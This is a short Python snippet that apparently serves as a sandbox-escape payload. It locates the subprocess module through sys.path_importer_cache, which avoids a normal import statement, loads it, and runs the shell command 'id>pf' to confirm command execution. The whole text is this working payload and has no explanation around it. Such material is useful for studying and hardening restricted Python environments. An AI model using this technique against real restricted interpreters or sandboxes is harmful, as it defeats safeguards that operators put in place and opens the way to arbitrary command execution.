import sys
for place, finder in sys.path_importer_cache.items():
    spec = finder and finder.find_spec("subprocess")
    if spec:
        spec.loader.load_module("subprocess").getoutput("id>pf")
        break
